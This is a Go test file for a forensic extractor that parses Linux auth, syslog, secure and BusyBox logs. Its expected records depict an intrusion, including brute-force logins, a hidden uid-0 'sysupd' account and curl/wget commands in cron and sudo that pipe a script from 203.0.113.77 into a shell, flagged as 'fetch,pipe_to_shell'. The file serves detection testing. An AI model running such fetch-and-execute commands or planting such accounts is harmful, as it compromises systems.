package authlog

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact"
	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/filesystem"
	"icecore/forensics/model"
)

// extract reads a text as if it stood at a path of an image.
func extract(t testing.TB, name string, text []byte, written time.Time, zone *time.Location) ([]artifact.Record, error) {
	t.Helper()
	in := &artifact.Input{Path: name, Inode: &filesystem.Inode{}, System: &artifact.System{Zone: zone}, Content: io.NewSectionReader(bytes.NewReader(text), 0, int64(len(text)))}
	if !written.IsZero() {
		in.Inode.Mtime = filesystem.Unix(written.Unix(), 0)
	}
	var out []artifact.Record
	err := Extractor{}.Extract(context.Background(), in, func(r artifact.Record) { out = append(out, r) })
	return out, err
}

func fromDisk(t *testing.T, name string, written time.Time, zone *time.Location) ([]byte, []artifact.Record) {
	t.Helper()
	b, err := os.ReadFile("testdata" + name)
	if err != nil {
		t.Fatal(err)
	}
	records, err := extract(t, name, b, written, zone)
	if err != nil {
		t.Fatal(err)
	}
	return b, records
}

func TestAuthLog(t *testing.T) {
	text, got := fromDisk(t, "/var/log/auth.log", time.Date(2026, 1, 1, 0, 30, 1, 0, time.UTC), time.UTC)
	want := `10 auth.login logged=2025-12-31T23:59:31Z method=publickey user=deploy address=198.51.100.10 port=40000 fingerprint=SHA256:3mWk9vYx8mVqJc0rF1sQm2bUu9T7n5o4p6Z8y1x2c3E pid=102
12 auth.sudo logged=2025-12-31T23:59:40Z user=deploy as=root tty=pts/0 pwd=/srv/app command=/usr/bin/systemctl restart app programs=/usr/bin/systemctl
15 auth.login logged=2026-01-01T00:01:00Z method=password user=root address=203.0.113.77 port=41022 pid=104
16 auth.session logged=2026-01-01T00:01:00Z action=opened user=root uid=0 service=sshd pid=104
17 auth.sftp logged=2026-01-01T00:01:05Z user=root subsystem=sftp pid=104
18 auth.groupadd logged=2026-01-01T00:02:30Z name=sysupd gid=1003
19 auth.useradd logged=2026-01-01T00:02:30Z name=sysupd uid=0 gid=0 home=/var/tmp/.a, b shell=/bin/bash from=/dev/pts/1
20 auth.passwd logged=2026-01-01T00:02:35Z user=sysupd service=passwd
21 auth.usermod logged=2026-01-01T00:02:40Z user=sysupd group=sudo change=add 'sysupd' to group 'sudo'
23 auth.su logged=2026-01-01T00:03:00Z user=deploy as=root tty=pts/0 result=granted
24 auth.su logged=2026-01-01T00:03:01Z user=www-data as=root tty=none result=refused
26 auth.sudo logged=2026-01-01T00:03:30Z user=www as=root tty=pts/1 pwd=/ refused=user NOT in sudoers command=/bin/sh -c 'curl -s http://203.0.113.77/i.sh | sh' programs=/bin/sh,curl,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
27 auth.userdel logged=2026-01-01T00:04:00Z name=games
29 auth.session logged=2026-01-01T00:06:00Z action=closed user=root service=sshd pid=104
1 auth.failures first=2025-12-31T23:58:00Z last=2026-01-01T00:00:10Z address=203.0.113.77 count=5 users=root,admin,root from 192.0.2.1 port 22 ssh2 user_count=3
25 auth.failures first=2026-01-01T00:03:01Z last=2026-01-01T00:03:01Z service=su count=1 users=root user_count=1
30 auth.failures first=2026-01-01T00:30:00Z last=2026-01-01T00:30:00Z address=203.0.113.77 count=1 users=root user_count=1
0 log.coverage first=2025-12-31T23:58:00Z last=2026-01-01T00:30:00Z lines=31 bytes=` + fmt.Sprint(len(text)) + ` unparsed=1
`
	if d := cmp.Diff(want, artifacttest.Lines(got)); d != "" {
		t.Error(d)
	}
	for _, r := range got {
		if r.Source.Line == 0 {
			continue
		}
		at := text[r.Source.Offset : r.Source.Offset+r.Source.Length]
		if want := strings.Split(string(text), "\n")[r.Source.Line-1]; string(at) != want {
			t.Errorf("%s: the source is %q, not %q", artifacttest.Plain(r), at, want)
		}
		for _, s := range r.Times {
			if s.Inferred != "year, zone" {
				t.Errorf("%s: inferred %q", artifacttest.Plain(r), s.Inferred)
			}
		}
	}
}

func TestSyslog(t *testing.T) {
	text, got := fromDisk(t, "/var/log/syslog", time.Time{}, time.UTC)
	want := `2 cron.change logged=2026-11-20T07:53:20.5Z action=replace user=root target=root
3 cron.change logged=2026-11-20T07:54:01Z action=reload user=root target=crontabs/root
1 cron.run first=2026-11-20T07:50:01.000001Z last=2026-11-20T08:01:01Z user=root command=cd / && run-parts --report /etc/cron.hourly count=2 programs=run-parts
4 cron.run first=2026-11-20T07:55:01Z last=2026-11-20T08:00:01Z user=root command=(curl -fsSL http://203.0.113.77/i.sh || wget -q -O- http://203.0.113.77/i.sh) | sh count=2 programs=curl,wget,sh urls=http://203.0.113.77/i.sh traits=fetch,pipe_to_shell
7 unit.started first=2026-11-20T08:00:03Z last=2026-11-20T08:00:04Z unit=systemd-resolve-helper.service description=Network Name Resolution Helper count=2
9 unit.started first=2026-11-20T08:00:05Z last=2026-11-20T08:00:05Z unit=logrotate.service description=Rotate log files count=1
11 unit.started first=2026-11-20T08:00:07Z last=2026-11-20T08:00:07Z unit=dbus.service description=D-Bus User Message Bus manager=user count=1
0 log.coverage first=2026-11-20T07:50:01.000001Z last=2026-11-20T08:01:01Z lines=12 bytes=` + fmt.Sprint(len(text)) + "\n"
	if d := cmp.Diff(want, artifacttest.Lines(got)); d != "" {
		t.Error(d)
	}
	for _, r := range got {
		for _, s := range r.Times {
			if s.Inferred != "" {
				t.Errorf("%s: inferred %q", artifacttest.Plain(r), s.Inferred)
			}
		}
	}
}

func TestSecure(t *testing.T) {
	zone, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Skip("no time zone data: ", err)
	}
	text, got := fromDisk(t, "/var/log/secure", time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), zone)
	want := `1 auth.login logged=2026-11-20T07:52:30Z method=password user=root address=203.0.113.77 port=41022 pid=77
2 auth.login logged=2026-11-20T07:53:30Z method=console user=root tty=tty1 pid=80
5 auth.login logged=2026-11-20T07:54:01Z method=password user=root address=203.0.113.78 port=5000 pid=90
3 auth.failures first=2026-11-20T07:53:40Z last=2026-11-20T07:53:40Z service=login count=1 users=root user_count=1
4 auth.failures first=2026-11-20T07:54:00Z last=2026-11-20T07:54:00Z address=203.0.113.78 count=1 users=root user_count=1
0 log.coverage first=2026-11-20T07:52:30Z last=2026-11-20T07:54:01Z lines=5 bytes=` + fmt.Sprint(len(text)) + "\n"
	if d := cmp.Diff(want, artifacttest.Lines(got)); d != "" {
		t.Error(d)
	}
}

// TestRotated reads the same log as logrotate packs it.
func TestRotated(t *testing.T) {
	_, plain := fromDisk(t, "/var/log/syslog", time.Time{}, time.UTC)
	for _, tt := range []struct{ tool, ext, member string }{{"gzip", ".gz", "gzip"}, {"xz", ".xz", "xz"}, {"bzip2", ".bz2", "bzip2"}, {"zstd", ".zst", "zstd"}} {
		if _, err := exec.LookPath(tt.tool); err != nil {
			t.Log("left out, there is no ", tt.tool)
			continue
		}
		packed, err := exec.Command(tt.tool, "-c", "testdata/var/log/syslog").Output()
		if err != nil {
			t.Fatal(err)
		}
		got, err := extract(t, "/var/log/syslog.2"+tt.ext, packed, time.Time{}, time.UTC)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(artifacttest.Lines(plain), artifacttest.Lines(got)); d != "" {
			t.Errorf("%s: %s", tt.tool, d)
		}
		for _, r := range got {
			if r.Source.Member != tt.member {
				t.Errorf("%s: member %q", tt.tool, r.Source.Member)
			}
		}
	}
}

// TestBusyBox reads what syslogd and crond of BusyBox 1.35 wrote.
func TestBusyBox(t *testing.T) {
	text, got := fromDisk(t, "/var/log/messages", time.Date(2026, 11, 30, 20, 33, 0, 0, time.UTC), time.UTC)
	want := `2 auth.failures first=2026-11-30T20:31:38Z last=2026-11-30T20:31:38Z address=198.51.100.7 count=2 users=root user_count=1
13 cron.run first=2026-11-30T20:32:00Z last=2026-11-30T20:32:00Z user=root command=echo a%b > /tmp/bb/out; date +\%s >> /tmp/bb/out count=1 programs=date
0 log.coverage first=2026-11-30T20:31:37Z last=2026-11-30T20:32:53Z lines=15 bytes=` + fmt.Sprint(len(text)) + "\n"
	if d := cmp.Diff(want, artifacttest.Lines(got)); d != "" {
		t.Error(d)
	}
}

func TestEmptied(t *testing.T) {
	got, err := extract(t, "/var/log/auth.log", nil, time.Now(), time.UTC)
	if want := "0 log.coverage lines=0 bytes=0 empty=yes\n"; err != nil || artifacttest.Lines(got) != want {
		t.Errorf("%v, %q; want %q", err, artifacttest.Lines(got), want)
	}
}

// TestCorrupt cuts a packed log: what stands before the cut is read, with an error.
func TestCorrupt(t *testing.T) {
	text := strings.Repeat("Nov 20 15:52:30 h sshd[1]: Accepted password for root from 203.0.113.77 port 41022 ssh2\n", 3000)
	cmd := exec.Command("gzip", "-1", "-c")
	cmd.Stdin = strings.NewReader(text)
	packed, err := cmd.Output()
	if err != nil {
		t.Skip("no gzip: ", err)
	}
	got, err := extract(t, "/var/log/auth.log.1.gz", packed[:len(packed)-40], time.Unix(1e9, 0), time.UTC)
	last := got[len(got)-1]
	if err == nil || len(got) < 100 || !strings.Contains(last.Get("error"), "unexpected EOF") {
		t.Errorf("%d records, %v, %s", len(got), err, artifacttest.Plain(last))
	}
}

// TestFlood: more addresses than there may be records, and the login behind them
// is reported all the same, and that something was left out.
func TestFlood(t *testing.T) {
	var text bytes.Buffer
	const n = 50_000 + 100
	for i := range n {
		fmt.Fprintf(&text, "2026-11-20T07:50:00Z h sshd[%d]: Failed password for root from 10.%d.%d.%d port 5 ssh2\n", i, i>>16, i>>8&255, i&255)
	}
	text.WriteString("2026-11-20T07:50:00Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n")
	records, err := extract(t, "/var/log/auth.log", text.Bytes(), time.Time{}, time.UTC)
	logins := 0
	for _, r := range records {
		if r.Kind == "auth.login" {
			logins++
		}
	}
	if last := records[len(records)-1]; logins != 1 || err == nil || last.Get("left_out") != "100" {
		t.Errorf("%d logins, %v, %s", logins, err, artifacttest.Plain(last))
	}
}

func TestLongLine(t *testing.T) {
	text := "2026-11-20T07:50:00Z h sshd[1]: " + strings.Repeat("x", 3<<20) + "\n2026-11-20T07:50:01Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n"
	records, err := extract(t, "/var/log/auth.log", []byte(text), time.Time{}, time.UTC)
	if err != nil || len(records) != 2 || records[0].Source.Line != 2 || records[0].Source.Offset != int64(strings.IndexByte(text, '\n')+1) {
		t.Errorf("%v\n%s", err, artifacttest.Lines(records))
	}
}

// TestNulBytes: a snapshot of a running server ends files with zeros.
func TestNulBytes(t *testing.T) {
	text := "2026-11-20T07:50:01Z h sshd[1]: Accepted password for root from 192.0.2.1 port 5 ssh2\n" + strings.Repeat("\x00", 5000)
	records, err := extract(t, "/var/log/auth.log", []byte(text), time.Time{}, time.UTC)
	if err != nil || len(records) != 2 || records[1].Get("unparsed") != "1" {
		t.Errorf("%v\n%s", err, artifacttest.Lines(records))
	}
}

func TestPatterns(t *testing.T) {
	for name, want := range map[string]bool{
		"/var/log/auth.log": true, "/var/log/auth.log.2.gz": true, "/var/log/secure-20261101": true, "/var/log/secure": true, "/var/log/syslog.1": true,
		"/var/log/cron": true, "/var/log/cron.log.1": true, "/var/log/cron-20261101.gz": true, "/var/log/messages": true, "/var/log/dpkg.log": false, "/var/log/nginx/access.log": false,
	} {
		got := false
		for _, p := range (Extractor{}).Patterns() {
			ok, err := path.Match(p, name)
			if err != nil {
				t.Fatal(err)
			}
			got = got || ok
		}
		if got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

func FuzzExtract(f *testing.F) {
	for _, name := range []string{"auth.log", "syslog", "secure"} {
		b, err := os.ReadFile("testdata/var/log/" + name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b, int64(1767227401))
	}
	f.Fuzz(func(t *testing.T, b []byte, written int64) {
		records, _ := extract(t, "/var/log/auth.log", b, time.Unix(written%(1<<36), 0), time.UTC)
		for _, r := range records {
			if r.Source.Member == "" && (r.Source.Offset < 0 || r.Source.Offset+r.Source.Length > int64(len(b))) {
				t.Fatalf("%s: source outside of the file", artifacttest.Plain(r))
			}
		}
	})
}

// TestLastWritten: the year comes from the time of modification, unless the date in
// the name or the time of the snapshot gives it the lie.
func TestLastWritten(t *testing.T) {
	day := func(s string) time.Time {
		if s == "" {
			return time.Time{}
		}
		d, err := time.Parse(time.DateOnly, s)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	for _, tt := range []struct{ name, modified, taken, want string }{
		{"/var/log/auth.log", "2026-03-01", "2026-03-02", "2026-03-01"},
		{"/var/log/auth.log", "2031-01-01", "2026-03-02", "2026-03-02"},
		{"/var/log/auth.log", "", "2026-03-02", "2026-03-02"},
		{"/var/log/auth.log.1", "2026-02-22", "2026-03-02", "2026-02-22"},
		{"/var/log/secure-20251228", "2025-12-28", "2026-03-02", "2025-12-28"},
		{"/var/log/secure-20251228", "2026-03-01", "2026-03-02", "2025-12-29"},
		{"/var/log/secure-20251228.gz", "2019-01-01", "2026-03-02", "2025-12-29"},
		{"/var/log/auth.log-2025-12-28.xz", "", "", "2025-12-29"},
		{"/var/log/messages-20251228-1766880000.zst", "", "", "2025-12-29"},
		{"/var/log/messages-20259999", "2026-03-01", "", "2026-03-01"},
		{"/var/log/messages-1", "2026-03-01", "", "2026-03-01"},
	} {
		if got := lastWritten(tt.name, day(tt.modified), day(tt.taken), time.UTC); !got.Equal(day(tt.want)) {
			t.Errorf("%s, modified %s, taken %s: %s, want %s", tt.name, tt.modified, tt.taken, got.Format(time.DateOnly), tt.want)
		}
	}
}

// TestZeros: a log emptied under its writer begins with zeros; what follows counts.
func TestZeros(t *testing.T) {
	text := strings.Repeat("\x00", 3<<20) + "Nov 20 07:52:30 web01 sshd[77]: Accepted password for root from 203.0.113.77 port 41022 ssh2\n"
	records, err := extract(t, "/var/log/auth.log", []byte(text), time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), time.UTC)
	if err != nil || len(records) != 2 || records[0].Kind != "auth.login" {
		t.Fatalf("%s%v", artifacttest.Lines(records), err)
	}
	at := records[0].Source
	if got := text[at.Offset : at.Offset+at.Length]; !strings.HasSuffix(got, "port 41022 ssh2") {
		t.Errorf("the source holds %.20q", got)
	}
}

// TestWantedLines: a rule of the user's has lines kept of which nothing was understood, up to
// a bound that is said.
func TestWantedLines(t *testing.T) {
	text := strings.Repeat("Nov 12 08:00:00 host01 named[7]: exiting (due to fatal error)\n", maxAsked+3) +
		"Nov 12 08:00:02 host01 guacd[9]: Connection joined\n"
	for _, tt := range []struct {
		wanted func(*artifact.Record) bool
		want   int
	}{
		{nil, 0},
		{func(r *artifact.Record) bool {
			return r.Get("program") == "guacd" && r.Get("message") == "Connection joined"
		}, 1},
		{func(r *artifact.Record) bool { return r.Get("program") == "named" }, maxAsked},
	} {
		recs, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/var/log/syslog", Text: text, Wanted: tt.wanted})
		n := 0
		for i := range recs {
			if recs[i].Kind == model.LogLine {
				n++
			}
		}
		if n != tt.want || (tt.want == maxAsked) != artifact.IsCut(err) {
			t.Errorf("%d lines, want %d: %v", n, tt.want, err)
		}
	}
}
